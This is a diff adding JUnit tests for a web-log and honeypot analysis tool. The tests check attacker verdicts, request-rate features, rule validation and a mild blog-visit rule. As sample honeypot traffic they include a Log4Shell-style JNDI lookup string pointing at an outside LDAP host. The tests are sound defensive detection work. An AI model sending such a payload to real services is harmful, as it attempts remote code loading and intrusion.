@@ -153,6 +153,97 @@ public class ExplainCommandTest {
     assertThat(said, containsString("attacker, HIGH"));
   }
 
+  /** A record of a session, and an event of a report without an id, from which one is made. */
+  @Test
+  public void aLineOfAHoneypotIsJudgedAsInARun() throws IOException {
+    String paths = "[{'path':'/?x=${jndi:ldap://198.51.100.7/a}','timestamp':1741000000}]";
+    for (String line :
+        List.of(
+            "{'sess_uuid':'s1','peer_ip':'192.0.2.9','start_time':1741000000,'paths':"
+                + paths
+                + "}",
+            "{'method':'GET','path':'/a?x=${jndi:ldap://198.51.100.7/a}','peer':{'ip':'192.0.2.9','port':4},"
+                + "'timestamp':'2025-03-03T10:15:30','uuid':'sensor','response_msg':{'response':{'message':"
+                + "{'detection':{'name':'index'},'sess_uuid':null}}}}")) {
+      String json = line.replace('\'', '"');
+      Files.writeString(log, json + "\n");
+      ObjectNode expected = analyze(folder.newFolder().toPath()).get(0).deepCopy();
+      assertThat(run("explain", json, "--json"), is(0));
+      JsonNode explained = JSON.readTree(out.toString(UTF_8));
+      expected.set("processed_at", explained.get("processed_at"));
+      assertThat(explained, is(expected));
+      assertThat(explained.path("verdict").asText(), is("attacker"));
+      assertThat(run("explain", json), is(0));
+      assertThat(out.toString(UTF_8), containsString("${jndi:ldap://198.51.100.7/a}"));
+    }
+    assertThat(
+        run("explain", "{\"sess_uuid\":\"s1\",\"peer_ip\":1e9999999999}", "--format=honeypot"),
+        is(1));
+    assertThat(err.toString(UTF_8), containsString("bad number"));
+  }
+
+  /** Three hundred pages in six hours, of which the sensor says no times, are no burst. */
+  @Test
+  public void requestsWithoutTimesHaveNoRate() throws IOException {
+    StringBuilder paths = new StringBuilder();
+    for (int i = 0; i < 300; i++) {
+      paths.append(i == 0 ? "" : ",").append("'/page/").append(i).append('\'');
+    }
+    String line =
+        "{'sess_uuid':'s1','peer_ip':'192.0.2.9','start_time':1741000000,'end_time':1741021600,"
+            + "'user_agent':'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101"
+            + " Firefox/132.0','paths':["
+            + paths
+            + "]}";
+    assertThat(run("explain", line.replace('\'', '"'), "--json"), is(0));
+    JsonNode session = JSON.readTree(out.toString(UTF_8));
+    JsonNode features = session.path("features");
+    assertThat(features.path("req_count").asInt(), is(300));
+    for (String name : List.of("rate_mean", "rate_peak_10s", "iat_cv", "max_sustained_clicks")) {
+      assertThat(
+          name, features.path(name).isNull() || features.path(name).isMissingNode(), is(true));
+    }
+    assertThat(session.path("attack_types").toString(), not(containsString("denial_of_service")));
+    assertThat(session.path("contributions").toString(), not(containsString("regular as a clock")));
+  }
+
+  @Test
+  public void aRuleThatIsRefusedIsNamedForALineToo() {
+    assertThat(run("explain", ATTACK, "--rules=" + rules), is(0));
+    assertThat(
+        err.toString(UTF_8),
+        is(
+            "spoor: refused "
+                + rules.resolve("wrong.yml")
+                + " (test.wrong): line 7: cs-moon: there is no such field in requests\n"));
+  }
+
+  /** It has no category; one visit to a page of the site is no probe. */
+  @Test
+  public void aMildRuleMakesNobodyAnAttacker() throws IOException {
+    Path mild = folder.newFolder().toPath();
+    Files.writeString(
+        mild.resolve("blog.yml"),
+        """
+        title: Visit to the blog
+        id: test.blog
+        level: low
+        logsource: {category: webserver}
+        detection:
+          selection: {path|startswith: /blog}
+          condition: selection
+        """);
+    String visit =
+        "192.0.2.1 - - [03/Mar/2025:10:15:30 +0000] \"GET /blog HTTP/1.1\" 200 5 \"-\""
+            + " \"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0\"";
+    assertThat(run("explain", visit, "--json"), is(0));
+    String before = JSON.readTree(out.toString(UTF_8)).path("verdict").asText();
+    assertThat(run("explain", visit, "--json", "--rules=" + mild), is(0));
+    JsonNode explained = JSON.readTree(out.toString(UTF_8));
+    assertThat(explained.path("verdict").asText(), is(before));
+    assertThat(fired(explained), is(List.of("test.blog")));
+  }
+
   @Test
   public void nothingOfALineReachesTheTerminalAsItIs() {
     assertThat(run("explain", ATTACK.replace("curl/", "\u001b[31mcurl/")), is(0));
